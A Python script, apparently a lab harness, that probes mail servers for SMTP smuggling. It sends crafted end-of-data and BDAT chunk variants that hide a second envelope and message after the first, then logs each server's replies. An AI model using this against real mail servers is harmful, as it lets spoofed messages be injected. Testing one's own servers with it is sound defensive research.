#!/usr/bin/env python3
"""
Sends every end of data to every server, as the customer's machine, and notes what was answered: one JSON
line a session. What stands behind the end is sent in one of three ways: `once`, everything together; `paced`,
each command when there was an answer to the one before, or time for one; `octets`, paced, and each octet
of the end in a segment of its own.
"""

import argparse
import itertools
import json
import socket
import sys
import time
from concurrent.futures import ThreadPoolExecutor

from ends_table import ADDRESS, CHUNKS, ENDS, SERVERS, Chunk

PHRASE = "This is a letter of the Mailweir lab."
SOURCE = {4: "203.0.113.7", 6: "2001:db8:c::7"}
LINE_END = {"CRLF": b"\r\n", "LF": b"\n"}
WAYS = ("once", "paced", "octets")
PAUSE_S = 0.4
OCTET_S = 0.005
PATIENCE_S = 5
AT_A_TIME = 24


def letter(which, number):
	"""A message without the end of its last line."""
	return [f"From: {which}@bakery.example", f"To: {number}.{which}@recipient.example", f"Subject: {which} {number}",
		f"Message-ID: <{number}.{which}@bakery.example>", "", PHRASE]


def envelope(which, number):
	return [f"MAIL FROM:<{which}@bakery.example>", f"RCPT TO:<{number}.{which}@recipient.example>"]


def joined(lines, end=b"\r\n"):
	return end.join(line.encode() for line in lines)


class Closed(Exception):
	pass


class Session:
	def __init__(self, family, address, port):
		self.replies = []
		self.buffer = b""
		kind = socket.AF_INET if family == 4 else socket.AF_INET6
		self.socket = socket.socket(kind, socket.SOCK_STREAM)
		self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
		self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
		self.socket.bind((SOURCE[family], port))
		self.socket.settimeout(PATIENCE_S)
		self.socket.connect((address, 25))

	def reply(self, seconds=PATIENCE_S):
		"""The last line of the next reply, or None when there is none in time."""
		self.socket.settimeout(seconds)
		while True:
			line, newline, rest = self.buffer.partition(b"\n")
			if newline:
				self.buffer = rest
				text = line.decode("latin-1").rstrip("\r")
				if text[3:4] != "-":
					self.replies.append(text)
					return text
				continue
			try:
				more = self.socket.recv(4096)
			except TimeoutError:
				return None
			if not more:
				raise Closed("closed")
			self.buffer += more

	def send(self, octets):
		self.socket.settimeout(PATIENCE_S)
		self.socket.sendall(octets)

	def say(self, octets):
		self.send(octets + b"\r\n")
		return self.reply()

	def drain(self, seconds):
		while self.reply(seconds) is not None:
			pass

	def pieces(self, pieces, way, end):
		"""The rest of the session; `end` is what the first piece ends in."""
		if way == "once":
			self.send(b"".join(pieces))
		else:
			first = pieces[0]
			if way == "octets":
				self.send(first[:-len(end)])
				for octet in end:
					time.sleep(OCTET_S)
					self.send(bytes([octet]))
			else:
				self.send(first)
			self.reply(PAUSE_S)
			for piece in pieces[1:]:
				self.send(piece)
				self.reply(PAUSE_S)
		self.drain(PATIENCE_S)
		return "timeout"


def second(number, end=b"\r\n"):
	"""The smuggled part, in pieces: commands, the message, QUIT."""
	return [*(command.encode() + end for command in (*envelope("second", number), "DATA")),
		joined(letter("second", number)) + b"\r\n.\r\n", b"QUIT" + end]


def data_pieces(end, number):
	first = joined(letter("first", number), LINE_END[end.lines]) + end.octets
	return [first, *second(number, LINE_END[end.commands])]


def bdat_pieces(chunk, number):
	first = joined([*letter("first", number), ""])
	rest = second(number)
	hidden = b"\r\n.\r\n" + b"".join(rest[:-1])
	size = len(first)
	fields = {"n": size, "all": size + len(hidden), "hex": f"{size:x}", "wrap": 2**64 + size}
	head = (chunk.command.format(**fields) + chunk.end).encode() + first
	return [head + hidden, b"QUIT\r\n"] if "{all}" in chunk.command else [head, *rest]


def run(session):
	end, server, family, way, number, port = session
	out = {"end": end.name, "server": server.name, "family": family, "way": way, "number": number, "port": port}
	talk = None
	try:
		talk = Session(family, ADDRESS[family] + server.last, port)
		talk.reply()
		talk.say(b"EHLO bakery.example")
		for command in envelope("first", number):
			talk.say(command.encode())
		if isinstance(end, Chunk):
			out["outcome"] = talk.pieces(bdat_pieces(end, number), way, b"")
		elif (talk.say(b"DATA") or "").startswith("354"):
			out["outcome"] = talk.pieces(data_pieces(end, number), way, end.octets)
		else:
			out["outcome"] = "no 354"
	except Closed:
		out["outcome"] = "closed"
	except OSError as error:
		out["outcome"] = type(error).__name__
	finally:
		if talk:
			out["replies"] = talk.replies
			talk.socket.close()
	return out


def sessions(names, base):
	number = 0
	servers = [server for server in SERVERS if server.name in names]
	for server, end, family, way in itertools.product(servers, [*ENDS, *CHUNKS], (4, 6), WAYS):
		if isinstance(end, Chunk) and (not server.chunking or way == "octets"):
			continue
		if way == "once" and not server.pipelining:
			continue
		yield end, server, family, way, f"L{base + number}", base + number
		number += 1


def main():
	parser = argparse.ArgumentParser(description=__doc__)
	parser.add_argument("--ports", type=int, default=20000, help="the first source port; each session has its own")
	parser.add_argument("servers", nargs="+", choices=[server.name for server in SERVERS])
	args = parser.parse_args()
	with ThreadPoolExecutor(AT_A_TIME) as pool:
		for result in pool.map(run, sessions(args.servers, args.ports)):
			json.dump(result, sys.stdout)
			sys.stdout.write("\n")


main()
